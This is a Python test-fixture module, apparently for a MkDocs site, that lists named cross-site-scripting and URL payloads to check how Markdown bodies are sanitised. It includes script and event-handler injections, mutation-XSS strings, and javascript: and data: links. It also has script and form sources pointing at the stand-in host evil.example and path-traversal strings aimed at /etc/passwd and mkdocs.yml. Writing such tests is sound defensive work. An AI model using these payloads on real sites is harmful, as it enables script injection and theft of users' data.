"""Hostile bodies: every way known to us in which a text has become code somewhere, by name.

Each calls `attack()` if it runs, asks `evil.example` for something, or leaves the page. Threats
as in the threat model of SECURITY.md.
"""

from __future__ import annotations

MARKUP = {
    "script": "<script>attack()</script>",
    "script in upper case": "<SCRIPT>attack()</SCRIPT>",
    "script with a slash": "<script/x>attack()</script>",
    "script unclosed": "<script>attack()//",
    "script split by a line": "<script\n>attack()</script\n>",
    "script as a module": "<script type=module>attack()</script>",
    "script from elsewhere": "<script src=https://evil.example/a.js></script>",
    "script without a scheme": "<script src=//evil.example/a.js></script>",
    "script within script": "<scr<script>ipt>attack()</scr</script>ipt>",
    "script behind a comment": "<!--><script>attack()</script>-->",
    "script behind a quick comment": "<!---><script>attack()</script>-->",
    "script behind a wrong end": "<!-- --!><script>attack()</script> -->",
    "script in CDATA": "<![CDATA[><script>attack()</script>]]>",
    "script in an instruction": "<?x ><script>attack()</script>?>",
    "script in a declaration": "<!x ><script>attack()</script>",
    "script in SVG": "<svg><script>attack()</script></svg>",
    "script in SVG by reference": '<svg><script href="data:text/javascript,attack()"/></svg>',
    "script in MathML": "<math><mtext><script>attack()</script></mtext></math>",
    "script in noscript": '<noscript><p title="</noscript><script>attack()</script>">',
    "script in a title": "<title></title><script>attack()</script>",
    "script in a style": "<style></style><script>attack()</script>",
    "script in a textarea": '<textarea><p title="</textarea><script>attack()</script>">',
    "script in a template": "<template><script>attack()</script></template>",
    "script in a declarative shadow": (
        "<div><template shadowrootmode=open><script>attack()</script></template></div>"
    ),
    "script in xmp": '<xmp><p title="</xmp><script>attack()</script>">',
    "script in iframe text": '<iframe><p title="</iframe><script>attack()</script>">',
    "script as entities": "&lt;script&gt;attack()&lt;/script&gt;",
    "script as numbers": "&#60;script&#62;attack()&#60;/script&#62;",
    "script in full width": "\uff1cscript\uff1eattack()\uff1c/script\uff1e",
    "import map": '<script type=importmap>{"imports":{"a":"https://evil.example/a.js"}}</script>',
    "speculation": (
        '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>'
    ),
    "image error": "<img src=x onerror=attack()>",
    "image error in quotes": '<img src="x" onerror="attack()">',
    "image error with slashes": "<img/src=x/onerror=attack()>",
    "image error in upper case": "<IMG SRC=X ONERROR=attack()>",
    "image error without end": "<img src=x onerror=attack()",
    "image error in backticks": "<img src=x onerror=`attack()`>",
    "image error behind two brackets": "<<img src=x onerror=attack()>",
    "image error behind a quote": '<img title=">" src=x onerror=attack()>',
    "image error in an end tag": "</p onclick=attack()><img src=x onerror=attack()>",
    "image with a set of sources": "<img srcset='https://evil.example/a.png 1x'>",
    "image from elsewhere": "<img src=https://evil.example/pixel.gif>",
    "image without a scheme": "<img src=//evil.example/pixel.gif>",
    "image as another name": "<image src=x onerror=attack()>",
    "picture": "<picture><source srcset=//evil.example/a.png><img src=x></picture>",
    "svg load": "<svg onload=attack()>",
    "svg animate": "<svg><animate onbegin=attack() attributeName=x dur=1s>",
    "svg set": (
        "<svg><a><set attributeName=href to=javascript:attack() /><text y=9>x</text></a></svg>"
    ),
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=attack()>#x'/></svg>",
    "svg foreign object": "<svg><foreignObject><body onload=attack()></foreignObject></svg>",
    "svg image": "<svg><image href=//evil.example/a.png></svg>",
    "svg style": "<svg><style>@import '//evil.example/a.css';</style></svg>",
    "body load": "<body onload=attack()>",
    "body background": "<body background=//evil.example/a.png>",
    "details": "<details open ontoggle=attack()>x</details>",
    "focus": "<input autofocus onfocus=attack()>",
    "focus of anything": "<b tabindex=0 autofocus onfocus=attack()>x</b>",
    "select": "<select autofocus onfocus=attack()><option>x</select>",
    "textarea": "<textarea autofocus onfocus=attack()></textarea>",
    "marquee": "<marquee onstart=attack()>x</marquee>",
    "video": "<video src=x onerror=attack()></video>",
    "video source": "<video><source onerror=attack()></video>",
    "video poster": "<video poster=//evil.example/a.png></video>",
    "audio": "<audio src=//evil.example/a.ogg autoplay></audio>",
    "animation": "<b style='animation: x 1s' onanimationstart=attack()>x</b>",
    "transition": "<b style='transition: 1s' ontransitionrun=attack()>x</b>",
    "pointer": "<b onpointerover=attack() onmouseover=attack() onclick=attack()>x</b>",
    "content visibility": (
        "<b oncontentvisibilityautostatechange=attack() style='content-visibility:auto'>"
    ),
    "popover": "<button popovertarget=p>x</button><b popover id=p onbeforetoggle=attack()>x</b>",
    "frame": "<iframe src=https://evil.example/></iframe>",
    "frame of code": "<iframe src=javascript:attack()></iframe>",
    "frame of a text": "<iframe srcdoc='<script>parent.attack()</script>'></iframe>",
    "frame load": "<iframe onload=attack()></iframe>",
    "frameset": "<frameset onload=attack()><frame src=javascript:attack()></frameset>",
    "object": "<object data=javascript:attack()></object>",
    "object from elsewhere": "<object data=//evil.example/a.svg></object>",
    "object of a text": "<object data='data:text/html,<script>parent.attack()</script>'></object>",
    "embed": "<embed src=javascript:attack()>",
    "embed of a picture": "<embed src='data:image/svg+xml,<svg onload=attack()>'>",
    "link to styles": "<link rel=stylesheet href=//evil.example/a.css>",
    "link to fetch": "<link rel=prefetch href=//evil.example/a>",
    "link to connect": "<link rel=preconnect href=//evil.example>",
    "link load": "<link rel=stylesheet href=x onerror=attack()>",
    "style of a picture": "<style>body{background:url(//evil.example/a.png)}</style>",
    "style import": "<style>@import '//evil.example/a.css';</style>",
    "style attribute": "<p style='background:url(//evil.example/a.png)'>x</p>",
    "style overlay": "<p style='position:fixed;inset:0;z-index:99'>x</p>",
    "base": "<base href=https://evil.example/><img src=a.png>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "refresh to code": "<meta http-equiv=refresh content='0;url=javascript:attack()'>",
    "form": "<form action=https://evil.example/><input type=submit id=go></form>",
    "form to code": "<form action=javascript:attack()><button>x</button></form>",
    "button to code": "<form><button formaction=javascript:attack()>x</button></form>",
    "link to code": "<a href=javascript:attack()>x</a>",
    "link that pings": "<a href=a ping=https://evil.example/>x</a>",
    "link with an access key": "<a href=a accesskey=x onclick=attack()>x</a>",
    "area to code": "<map name=m><area href=javascript:attack() shape=default></map>",
    "math link": "<math><mtext href=javascript:attack()>x</mtext></math>",
    "mutation by MathML": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=attack()&gt;">'
    ),
    "mutation by forms": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>"
    ),
    "mutation by SVG": '<svg></p><style><a id="</style><img src=1 onerror=attack()>">',
    "mutation by a description": (
        '<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="'
        '&lt;/style>&lt;img src onerror=attack()>">'
    ),
    "mutation by an annotation": (
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=attack()></style>'
    ),
    "mutation by a table": "<table><a><tr><img src=x onerror=attack()>",
    "mutation by a list": '<svg><ul><li><style><a title="</style><img src onerror=attack()>">',
    "custom element": "<x-a onclick=attack() is=x style=animation-name:x>x</x-a>",
    "id of the theme": "<p id=__config>{}</p><p id=__search>x</p>",
    "names of the document": "<img name=body><img name=getElementById><form name=forms></form>",
    "names of the scripts": "<a id=__md_scope></a><a id=__md_get></a><a id=palette></a>",
    "component of the theme": "<p data-md-component=search class='md-search'>x</p>",
    "drag": "<b draggable=true ondragstart=attack()>x</b>",
    "scroll": "<b style=display:block;overflow:auto onscroll=attack()>x</b>",
    "event of print": "<body onbeforeprint=attack() onhashchange=attack() onpageshow=attack()>",
    "plain text": "<plaintext onmouseover=attack()>x",
    "portal": "<portal src=https://evil.example/>",
    "fenced frame": "<fencedframe src=https://evil.example/></fencedframe>",
    "bell and tab": "<img\tsrc=x\tonerror\t=\tattack()>",
    "form feed": "<img\x0csrc=x\x0conerror=attack()>",
    "two equal attributes": "<img src=x onerror onerror=attack()>",
    "attribute without a space": '<img src="x"onerror="attack()">',
}
"""HTML in a body; each stands in a line of its own, and once more within a line."""

URLS = {
    "javascript": "javascript:attack()",
    "javascript in capitals": "JaVaScRiPt:attack()",
    "javascript with a number": "&#106;avascript:attack()",
    "javascript with a hex number": "&#x6A;avascript:attack()",
    "javascript with a named colon": "javascript&colon;attack()",
    "javascript with a named tab": "java&Tab;script:attack()",
    "javascript with a named line": "java&NewLine;script:attack()",
    "javascript percent-encoded": "%6Aavascript:attack()",
    "javascript behind a slash": "/javascript:attack()",
    "javascript behind a backslash": "\\javascript:attack()",
    "javascript as an address": "javascript://evil.example/%0Aattack()",
    "javascript with a comment": "javascript:/*--></title></style>*/attack()",
    "javascript in brackets": "<javascript:attack()>",
    "javascript in brackets, spaced": "< javascript:attack()>",
    "vbscript": "vbscript:attack()",
    "livescript": "livescript:attack()",
    "data": "data:text/html,<script>attack()</script>",
    "data in base 64": "data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==",
    "data as a picture": "data:image/svg+xml,<svg/onload=attack()>",
    "data as a script": "data:text/javascript,attack()",
    "blob": "blob:https://evil.example/1",
    "file": "file:///etc/passwd",
    "file system": "filesystem:https://evil.example/temporary/a",
    "view source": "view-source:https://evil.example/",
    "about": "about:blank",
    "no scheme": "//evil.example/a.png",
    "no scheme, backslashes": "\\\\evil.example/a.png",
    "no scheme, mixed": "/\\evil.example/a.png",
    "no scheme, three": "///evil.example/a.png",
    "no scheme, with a tab": "/&Tab;/evil.example/a.png",
    "scheme without slashes": "https:evil.example/a.png",
    "scheme with one slash": "https:/evil.example/a.png",
    "a picture from elsewhere": "https://evil.example/a.png",
    "a socket": "wss://evil.example/",
    "another program": "ms-office:ofe|u|https://evil.example/a",
    "a quote": 'https://a.example/"onmouseover="attack()',
    "a quote as an entity": "https://a.example/&quot;onmouseover=&quot;attack()",
    "a bracket": "https://a.example/><script>attack()</script>",
    "a title with a quote": "https://a.example/ '\"onmouseover=\"attack()'",
    "a mail with headers": "mailto:a@b.example?body=</a><script>attack()</script>",
    "a fragment of the theme": "#__search",
    "upwards": "../../../../../../etc/passwd",
    "percent upwards": "%2e%2e/%2e%2e/mkdocs.yml",
    "the settings": "../../mkdocs.yml",
}
"""Where links and images of a body lead."""

CONTEXTS = {
    "heading": "# {0}",
    "heading below a line": "{0}\n---",
    "quote": "> {0}",
    "list": "- {0}",
    "task": "- [ ] {0}",
    "table": "| {0} |\n|---|\n| {0} |",
    "alignment of a table": "| a |\n|:{0}|\n| b |",
    "fence": "```\n{0}\n```",
    "language of a fence": "```{0}\nx\n```",
    "options of a fence": '```python title="{0}" hl_lines="{0}"\nx\n```',
    "mermaid": '```mermaid\ngraph LR; A["{0}"] --> B; click A "javascript:attack()"\n```',
    "mathematics": "$$\\href{{javascript:attack()}}{{{0}}}$$",
    "indented code": "    {0}",
    "code": "`{0}`",
    "code with an attribute": "`x`{{: onclick={0} }}",
    "emphasis": "*{0}* **{0}** ~~{0}~~",
    "text of a link": "[{0}](https://a.example)",
    "title of a link": "[x](https://a.example '{0}')",
    "text of an image": "![{0}](map.png)",
    "title of an image": "![x](map.png '{0}')",
    "definition": "[x][r]\n\n[r]: https://a.example '{0}'",
    "footnote": "x[^1]\n\n[^1]: {0}",
    "name of a footnote": "x[^{0}]\n\n[^{0}]: y",
    "admonition": '!!! note "{0}"\n\n    {0}',
    "kind of an admonition": "!!! {0}\n\n    x",
    "alert": "> [!NOTE]\n> {0}",
    "kind of an alert": "> [!{0}]\n> x",
    "reference": "[[russia|{0}]]",
    "reference to nobody": "[[{0}]]",
    "address": "<https://a.example/{0}>",
    "bare address": "https://a.example/{0}",
    "abbreviation": "*[HTML]: {0}\n\nHTML",
    "attribute list": "x {{: onclick=\"attack()\" title='{0}' }}",
    "include": '--8<-- "mkdocs.yml"\n\n{0}',
    "template": "{{{{ config }}}} {{% include 'mkdocs.yml' %}} {0}",
    "environment": "!ENV HOME ${{HOME}} {0}",
    "markdown in HTML": "<div markdown=1>\n\n{0}\n\n</div>",
    "tab": '=== "{0}"\n\n    x',
    "details": '??? note "{0}"\n\n    x',
    "definition list": "{0}\n:   {0}",
    "critic markup": "{{>> {0} <<}}",
    "emoji": ":{0}: :smile:{{ title='{0}' }}",
    "front matter again": "---\ntitle: {0}\n---",
}
"""Places of a body in which `IMAGE` stands."""

IMAGE = "</title></textarea>\"'><img src=x onerror=attack()>"


def hostile_bodies() -> dict[str, str]:
    """Return every case, by name."""
    cases: dict[str, str] = {}
    for name, markup in MARKUP.items():
        cases[f"{name}, by itself"] = markup
        cases[f"{name}, in a line"] = f"Russia {markup} said **so**."
    for name, url in URLS.items():
        cases[f"link: {name}"] = f"[x]({url})\n\n<{url}>\n\n[y][r]\n\n[r]: {url}"
        cases[f"image: {name}"] = f"![x]({url})\n\n![y][r]\n\n[r]: {url}"
    for name, context in CONTEXTS.items():
        cases[f"in: {name}"] = context.format(IMAGE)
    return cases
